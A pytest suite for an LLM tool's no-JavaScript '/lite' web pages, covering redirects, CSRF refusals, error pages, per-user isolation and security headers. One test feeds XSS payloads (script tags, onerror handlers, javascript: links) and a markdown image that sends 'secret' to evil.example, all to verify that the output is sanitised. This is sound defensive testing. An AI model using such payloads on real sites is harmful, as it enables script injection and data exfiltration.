"""The no-JavaScript pages under /lite through a real server: form → 303 → status page → stop →
next question; 409 while pending, 404, CSRF refusals, 422 forms that keep the input, logins,
security headers, and model output rendered inert. httpx is the browser; the provider is the
loopback server (or the offline demo)."""

from __future__ import annotations

import re
import sqlite3
import time
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest

from llmtool.loopback import LoopbackServer, Scenario
from llmtool.web.app import create_app
from llmtool.web.context import AppContext
from llmtool.web.serve import BackgroundServer
from tests.helpers import log_in
from tests.web.support import check_again, make_settings, send_form, state, token

MODEL = "openai:gpt-4.1-mini"
TEMPLATE = """---
description: Plan a short trip
model: demo:assistant
variables:
  city: {type: text, description: Where to}
  notes: {type: long_text, default: "Nothing else."}
  days: {type: integer, default: 3}
  budget: {type: number, required: false}
  pace: {type: choice, choices: [slow, brisk], default: brisk}
  museums: {type: boolean, default: true}
---
Plan {{ days }} days in {{ city }} at a {{ pace }} pace{% if museums %}, with museums{% endif %}. {{ notes }} {{ budget }}
"""


def lite_settings(loopback: LoopbackServer, folder: Path, prompts: Path, **overrides):
    defaults = {"tokens_per_second": 2_000, "max_attempts": 1, "flush_interval": 0.05,
                "timeouts": {"connect": 2, "first_token": 20, "idle": 20, "total": 30}}
    return make_settings(loopback, folder, prompts=prompts, **(defaults | overrides))


@pytest.fixture(scope="module")
def prompts(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("prompts")
    (directory / "trip.md").write_text(TEMPLATE)
    return directory


@pytest.fixture(scope="module")
def served(loopback: LoopbackServer, prompts: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BackgroundServer]:
    settings = lite_settings(loopback, tmp_path_factory.mktemp("lite"), prompts)
    with BackgroundServer(create_app(context=AppContext(settings))) as server:
        warm_model_lists(server)
        yield server


def warm_model_lists(server: BackgroundServer) -> None:
    """The form offers the providers' live lists: ask the loopback server for its list (cached) now,
    before a test queues a scenario for a run (listing takes a scenario like any request)."""
    assert httpx.get(f"{server.url}/lite", timeout=10).status_code == 200


def ask(client: httpx.Client, prompt: str = "Tell me a story", model: str = MODEL, **fields) -> str:
    location = send_form(client, model=model, prompt=prompt, **fields)
    assert re.fullmatch(r"/lite/runs/[0-9a-f]{12}", location)
    return location


class Elements(HTMLParser):
    """Every element of an HTML fragment, with its attributes, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    @classmethod
    def of(cls, fragment: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
        parser = cls()
        parser.feed(fragment)
        return parser.found


def assert_page_rules(page: httpx.Response) -> None:
    """No timed refresh, one polite status region, our CSP without inline scripts, the headers."""
    assert "http-equiv" not in page.text.lower()
    assert page.text.count('role="status"') == 1 and page.text.count('aria-live="polite"') == 1
    assert 'role="status" aria-live="polite"' in page.text
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert "frame-ancestors 'self'" in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    assert "<script>" not in page.text and "onclick" not in page.text.lower()


def test_the_form_lists_usable_models_and_sets_the_csrf_cookie(http: httpx.Client) -> None:
    page = http.get("/lite")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert '<input type="text" id="model" name="model" value="demo:assistant" list="model-list"' in page.text
    assert '<option value="demo:assistant">' in page.text and f'<option value="{MODEL}">' in page.text  # the datalist
    assert '<label for="prompt">' in page.text and '<textarea id="prompt" name="prompt"' in page.text
    cookie = page.headers["set-cookie"]
    assert cookie.startswith("llmtool_csrf=") and "HttpOnly" in cookie and "samesite=lax" in cookie.lower()
    assert "http-equiv" not in page.text.lower() and "unsafe-inline" not in page.headers["content-security-policy"]
    assert http.get("/lite/", follow_redirects=False).headers["location"] == "/lite"
    assert http.get("/lite/runs", follow_redirects=False).headers["location"] == "/lite"


def test_form_303_status_page_check_again_until_done(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(text="**Bold** start. " + "word " * 40, tokens_per_second=80))
    location = ask(http, "Tell me a story")
    first = http.get(location)
    assert_page_rules(first)
    assert re.fullmatch(r"(Waiting for the first token|Writing…) — \d+ s", state(first))
    assert "Check again" in first.text and "/stop" in first.text and "Your next question" not in first.text
    assert f'<form method="get" action="{location}"' in first.text  # Check again: a plain GET of the page
    writing = check_again(http, location, lambda s: s.startswith("Writing…"))
    assert re.search(r"Writing… — \d+ s", state(writing))
    done = check_again(http, location, lambda s: s.startswith("Done"))
    assert re.fullmatch(r"Done in \d+(\.\d)? s · \d+ tokens(?: · \$\d+\.\d{4}| · no cost)?", state(done)), state(done)
    assert "<strong>Bold</strong>" in done.text  # Markdown rendered on the server
    assert "Check again" not in done.text and "/stop" not in done.text
    assert "Your next question" in done.text and 'name="conversation_id"' in done.text
    assert_page_rules(done)
    assert "sk-loopback-secret" not in done.text


def test_stop_cancels_through_the_service_and_redirects_back(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(kind="stall_before_first_token", stall_seconds=30))
    location = ask(http)
    waiting = check_again(http, location, lambda s: s.startswith("Waiting for the first token"))
    assert re.fullmatch(r"Waiting for the first token — \d+ s", state(waiting))
    began = time.monotonic()
    stop = http.post(location + "/stop", data={"csrf_token": token(http)})
    assert stop.status_code == 303 and stop.headers["location"] == location
    assert time.monotonic() - began < 2.5
    stopped = http.get(location)
    assert state(stopped).startswith("Stopped after")
    upstream.wait_for_requests(1)
    deadline = time.monotonic() + 3
    while upstream.requests[0].closed_at is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert upstream.requests[0].closed_by_client  # the provider connection was closed
    again = http.post(location + "/stop", data={"csrf_token": token(http)})  # harmless once ended
    assert again.status_code == 303


def test_the_next_question_continues_the_stored_conversation(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(text="Paris is the capital of France."), Scenario(text="About two million people."))
    first = ask(http, "What is the capital of France?")
    done = check_again(http, first, lambda s: s.startswith("Done"))
    conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', done.text).group(1)
    answer = http.post("/lite/runs", data={"csrf_token": csrf, "conversation_id": conversation,
                                              "after": first.rsplit("/", 1)[1], "model": MODEL,
                                              "prompt": "How many people live there?"})
    assert answer.status_code == 303
    second = answer.headers["location"]
    assert second != first
    page = check_again(http, second, lambda s: s.startswith("Done"))
    # the earlier turn is on the page, then this one
    assert page.text.index("What is the capital of France?") < page.text.index("Paris is the capital") \
        < page.text.index("How many people live there?") < page.text.index("About two million people.")
    sent = upstream.wait_for_requests(2)[1].body
    assert "What is the capital of France?" in str(sent) and "Paris is the capital of France." in str(sent)


def test_a_second_question_while_one_is_pending_is_refused_with_409(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(text="Done quickly."), Scenario(kind="stall_before_first_token", stall_seconds=30))
    first = ask(http, "One")
    done = check_again(http, first, lambda s: s.startswith("Done"))
    conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
    form = {"csrf_token": token(http), "conversation_id": conversation, "after": first.rsplit("/", 1)[1],
            "model": MODEL}
    pending = http.post("/lite/runs", data={**form, "prompt": "Two"})
    assert pending.status_code == 303
    refused = http.post("/lite/runs", data={**form, "prompt": "Three"})
    assert refused.status_code == 409
    assert "still being written in this conversation" in refused.text and "Traceback" not in refused.text
    assert_page_rules_static(refused)
    http.post(pending.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})


def assert_page_rules_static(page: httpx.Response) -> None:
    assert "http-equiv" not in page.text.lower() and "unsafe-inline" not in page.headers["content-security-policy"]
    assert page.headers["content-type"].startswith("text/html")


def test_unknown_runs_and_conversations_are_404_pages(http: httpx.Client) -> None:
    missing = http.get("/lite/runs/000000000000")
    assert missing.status_code == 404 and "Run not found" in missing.text
    assert_page_rules_static(missing)
    assert http.get("/lite/runs/000000000000/part").status_code == 404
    assert http.post("/lite/runs/000000000000/stop", data={"csrf_token": token(http)}).status_code == 404
    unknown = http.post("/lite/runs", data={"csrf_token": token(http), "conversation_id": "nope",
                                               "prompt": "Hello", "model": MODEL})
    assert unknown.status_code == 404 and "no such conversation" in unknown.text


@pytest.mark.parametrize(("case", "change"), [
    ("no token", lambda form, headers: form.pop("csrf_token")),
    ("wrong token", lambda form, headers: form.update(csrf_token="x" * 43)),
    ("another site", lambda form, headers: headers.update(origin="https://evil.example")),
    ("another site by fetch metadata", lambda form, headers: headers.update({"sec-fetch-site": "cross-site"})),
    ("another site by referer", lambda form, headers: headers.update(referer="https://evil.example/page")),
])
def test_csrf_refusals_are_403_pages_and_start_nothing(http: httpx.Client, upstream: LoopbackServer, case, change) -> None:
    form = {"csrf_token": token(http), "model": MODEL, "prompt": "Should not run"}
    headers: dict[str, str] = {}
    change(form, headers)
    refused = http.post("/lite/runs", data=form, headers=headers)
    assert refused.status_code == 403, case
    assert "The form was refused" in refused.text and ("reload the page" in refused.text or "another site" in refused.text)
    assert_page_rules_static(refused)
    assert upstream.requests == []


def test_a_form_without_the_cookie_is_refused(served: BackgroundServer, http: httpx.Client) -> None:
    form = {"csrf_token": token(http), "model": MODEL, "prompt": "Hello"}
    with httpx.Client(base_url=served.url, timeout=10) as stranger:  # has the field, not the cookie
        assert stranger.post("/lite/runs", data=form).status_code == 403


def test_same_origin_headers_pass(http: httpx.Client, served: BackgroundServer, upstream: LoopbackServer) -> None:
    headers = {"origin": served.url, "sec-fetch-site": "same-origin", "referer": "null"}
    answer = http.post("/lite/runs", data={"csrf_token": token(http), "model": "demo:assistant",
                                              "prompt": "Hi"}, headers=headers)
    assert answer.status_code == 303
    nulled = http.post("/lite/runs", data={"csrf_token": token(http), "model": "demo:assistant",
                                              "prompt": "Hi"}, headers={"origin": "null"})  # no-referrer pages send it
    assert nulled.status_code == 303


@pytest.mark.parametrize(("fields", "message"), [
    ({"prompt": "   "}, "Enter your question"),
    ({"prompt": "Keep this text", "model": "nowhere:model"}, "Unknown provider 'nowhere'; known providers:"),
    ({"prompt": "Keep this text", "model": "demo:nothing"}, "Unknown model 'nothing' for provider 'demo'"),
    ({"prompt": "Keep this text", "model": "demo:assistant", "reasoning_effort": "high"},
     "demo:assistant is not a reasoning model: leave the reasoning effort unset."),
    ({"prompt": "Keep this text", "reasoning_effort": "enormous"}, "Pick a reasoning effort from the list"),
])
def test_bad_input_rerenders_the_form_with_422_keeping_the_input(http: httpx.Client, fields, message) -> None:
    form = {"csrf_token": token(http), "model": MODEL, **fields}
    page = http.post("/lite/runs", data=form)
    assert page.status_code == 422 and message in unescape(page.text)
    assert "There is a problem" in page.text and "<title>Error:" in page.text
    assert f">{fields['prompt']}</textarea>" in page.text  # what the user typed is kept
    assert "Traceback" not in page.text
    assert_page_rules_static(page)


def test_a_template_shows_typed_fields_with_defaults(http: httpx.Client) -> None:
    page = http.get("/lite", params={"template": "trip"})
    assert page.status_code == 200
    text = page.text
    assert '<input type="hidden" name="template" value="trip">' in text
    assert re.search(r'<input type="text" id="var_city" name="var_city" value=""', text)
    assert re.search(r'<textarea id="var_notes" name="var_notes" rows="6"[^>]*>Nothing else.</textarea>', text)
    assert re.search(r'inputmode="numeric" id="var_days" name="var_days" value="3"', text)
    assert re.search(r'inputmode="decimal" id="var_budget" name="var_budget" value=""', text)
    assert re.search(r'<select id="var_pace" name="var_pace"', text) and '<option value="brisk" selected>' in text
    assert re.search(r'<input type="checkbox" id="var_museums" name="var_museums" value="true" checked', text)
    for name in ("city", "notes", "days", "budget", "pace", "museums"):
        assert f'<label for="var_{name}">' in text  # every input has its label
    unknown = http.get("/lite", params={"template": "nope"})
    assert unknown.status_code == 422 and "nope" in unescape(unknown.text)


def test_a_template_run_and_its_variable_errors(http: httpx.Client) -> None:
    base = {"csrf_token": token(http), "template": "trip", "model": "demo:assistant", "var_notes": "Quiet, please.",
            "var_pace": "slow", "var_budget": ""}
    bad = http.post("/lite/runs", data={**base, "var_city": "", "var_days": "three"})
    assert bad.status_code == 422
    text = unescape(bad.text)
    assert "Enter city (Where to)" in text and "must be a whole number" in text
    assert "Quiet, please.</textarea>" in text and 'value="three"' in text  # the input is kept
    assert '<option value="slow" selected>' in text
    assert 'aria-invalid="true"' in text and 'href="#var_city"' in text
    good = http.post("/lite/runs", data={**base, "var_city": "Lyon", "var_days": "2"})  # museums unticked
    assert good.status_code == 303
    page = check_again(http, good.headers["location"], lambda s: s.startswith("Done"))
    assert "Plan 2 days in Lyon at a slow pace. Quiet, please." in unescape(page.text)
    assert "with museums" not in page.text


def test_model_output_is_rendered_inert(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(text=(
        "Hi <script>alert('x')</script> and <img src=http://evil.example/a.png onerror=alert(1)> "
        "![leak](http://evil.example/?q=secret) [click](javascript:alert(1)) [ok](https://example.org/) "
        "<a href=\"javascript:alert(2)\">raw</a> sk-loopback-secret"
    )))
    location = ask(http, "Be naughty")
    page = check_again(http, location, lambda s: s.startswith("Done"))
    answer = re.search(r'<div class="answer" id="answer">(.*?)</div>', page.text, re.S).group(1)
    elements = Elements.of(answer)
    assert {tag for tag, _ in elements} <= {"p", "a", "span"}, elements
    assert all(not name.startswith("on") and not (value or "").lower().startswith("javascript")
               for _, attrs in elements for name, value in attrs)
    assert [dict(attrs)["href"] for tag, attrs in elements if tag == "a"] == ["https://example.org/"]
    assert "&lt;script&gt;" in answer  # shown as text
    assert "evil.example/?q=secret" not in answer and "[image: leak]" in answer
    assert '<a href="https://example.org/" rel="noopener noreferrer nofollow">ok</a>' in answer
    assert "sk-loopback-secret" not in page.text  # redacted
    part = http.get(location + "/part").json()
    assert part["ended"] is True and "<script" not in part["answer_html"] and part["state"].startswith("Done")


def test_a_failed_run_says_why_in_a_sentence(http: httpx.Client, upstream: LoopbackServer) -> None:
    upstream.enqueue(Scenario(kind="http_error", status=400, error_message="bad things with sk-loopback-secret"))
    location = ask(http)
    page = check_again(http, location, lambda s: not s.startswith(("Waiting", "Writing")))
    assert state(page).startswith("Failed: ") and len(state(page)) > len("Failed: ") + 10
    assert "sk-loopback-secret" not in page.text and "Traceback" not in page.text
    assert "Your next question" in page.text


def test_the_page_estimates_the_time_left_from_the_models_past_runs(loopback: LoopbackServer, prompts: Path,
                                                                   tmp_path: Path) -> None:
    loopback.reset()
    with BackgroundServer(create_app(context=AppContext(lite_settings(loopback, tmp_path, prompts)))) as server, \
            httpx.Client(base_url=server.url, timeout=10) as client:
        warm_model_lists(server)
        loopback.enqueue(Scenario(kind="stall_before_first_token", stall_seconds=30))
        first = ask(client, "No history yet")
        assert 'id="estimate" class="hint" hidden' in client.get(first).text  # nothing to go by: no estimate
        client.post(first + "/stop", data={"csrf_token": token(client)})
        for _ in range(3):
            check_again(client, ask(client, "Quick"), lambda s: s.startswith("Done"))
        loopback.enqueue(Scenario(kind="stall_before_first_token", stall_seconds=30))
        deadline = time.monotonic() + 5  # until the third run is stored (its write may lag under load)
        while (len(client.get("/api/runs", params={"status": "completed"}).json()["runs"]) < 3
               and time.monotonic() < deadline):
            time.sleep(0.05)
        location = ask(client, "With history")
        page = client.get(location)
        estimate = unescape(re.search(r'<p id="estimate" class="hint"[^>]*>(.*?)</p>', page.text).group(1))
        client.post(location + "/stop", data={"csrf_token": token(client)})
    assert re.fullmatch(r"Answers from this model usually take about \d+\.\d s: it should be done in a moment\.", estimate), \
        estimate


def test_with_logins_each_user_sees_only_their_runs(loopback: LoopbackServer, prompts: Path, tmp_path: Path) -> None:
    users = {"ann": "pw-ann", "bob": "pw-bob"}
    context = AppContext(lite_settings(loopback, tmp_path, prompts))
    app = create_app(context=context, auth=lambda user, password: users.get(user) == password)
    with BackgroundServer(app) as server:
        anonymous = httpx.get(f"{server.url}/lite?template=classify", timeout=10)
        assert anonymous.status_code == 303
        assert anonymous.headers["location"] == "/login?next=%2Flite%3Ftemplate%3Dclassify"
        assert httpx.get(f"{server.url}/lite", auth=("ann", "pw-ann"), timeout=10).status_code == 303  # a session, not Basic
        with httpx.Client(base_url=server.url, cookies={"llmtool_session": log_in(server.url, "ann", "pw-ann")},
                          timeout=10) as ann, \
                httpx.Client(base_url=server.url, cookies={"llmtool_session": log_in(server.url, "bob", "pw-bob")},
                             timeout=10) as bob:
            location = ask(ann, "Ann's question", model="demo:assistant")
            check_again(ann, location, lambda s: s.startswith("Done"))
            assert bob.get(location).status_code == 404
            assert bob.get(location + "/part").status_code == 404
            assert bob.post(location + "/stop", data={"csrf_token": token(bob)}).status_code == 404
            run_id = location.rsplit("/", 1)[1]
            record = ann.get(f"/api/runs/{run_id}").json()
            assert record["status"] == "completed"
            stored = ann.get("/api/runs", params={"conversation_id": record["conversation_id"]}).json()["runs"]
            assert [r["id"] for r in stored] == [run_id]
            with sqlite3.connect(tmp_path / "runs.db") as db:
                assert db.execute("select user, source from runs where id = ?", (run_id,)).fetchone() == ("ann", "lite")
            done = ann.get(location)
            form = {"csrf_token": re.search(r'name="csrf_token" value="([^"]+)"', done.text).group(1),
                    "conversation_id": record["conversation_id"], "prompt": "Bob's try", "model": "demo:assistant"}
            bob.cookies.delete("llmtool_csrf")
            bob.cookies.set("llmtool_csrf", form["csrf_token"])
            refused = bob.post("/lite/runs", data=form)
            assert refused.status_code == 404, refused.text  # another user's conversation


def test_follow_ups_sent_at_once_start_one_run(http: httpx.Client, upstream: LoopbackServer) -> None:
    import concurrent.futures

    upstream.enqueue(Scenario(text="Done quickly."))
    first = ask(http, "One")
    done = check_again(http, first, lambda s: s.startswith("Done"))
    conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
    form = {"csrf_token": token(http), "conversation_id": conversation, "model": "demo:assistant"}
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda i: http.post("/lite/runs", data={**form, "prompt": f"Two {i}"}), range(4)))
    codes = sorted(a.status_code for a in answers)
    assert codes.count(303) == 1 and codes.count(409) == 3, codes
    for answer in answers:
        if answer.status_code == 303:
            http.post(answer.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})


def test_the_pages_respect_the_servers_run_limit(loopback: LoopbackServer, prompts: Path, tmp_path: Path) -> None:
    settings = lite_settings(loopback, tmp_path, prompts, ui={"queue_size": 1}, first_token_delay=5.0,
                             tokens_per_second=10)
    with BackgroundServer(create_app(context=AppContext(settings))) as server, \
            httpx.Client(base_url=server.url, timeout=10) as client:
        first = ask(client, "One", model="demo:assistant")
        refused = client.post("/lite/runs", data={"csrf_token": token(client), "model": "demo:assistant",
                                                  "prompt": "Two"})
        assert refused.status_code == 503, refused.text
        assert "its limit" in refused.text and "Traceback" not in refused.text
        client.post(first + "/stop", data={"csrf_token": token(client)})


def test_buffer_mode_holds_back_an_answer_that_failed_its_rules(http: httpx.Client, prompts: Path,
                                                                upstream: LoopbackServer) -> None:
    (prompts / "strict.md").write_text("---\nmodel: demo:echo\noutput: buffer\nvalidation:\n  max_length: 5\n"
                                       "variables:\n  text: {}\n---\n{{ text }}\n")
    page = http.post("/lite/runs", data={"csrf_token": token(http, "/lite?template=strict"),
                                            "template": "strict", "var_text": "far too long an answer"})
    assert page.status_code == 303, page.text
    done = check_again(http, page.headers["location"], lambda s: not s.startswith(("Waiting", "Writing")))
    assert "far too long an answer" not in done.text.split('id="answer"', 1)[-1].split("</section>", 1)[0]
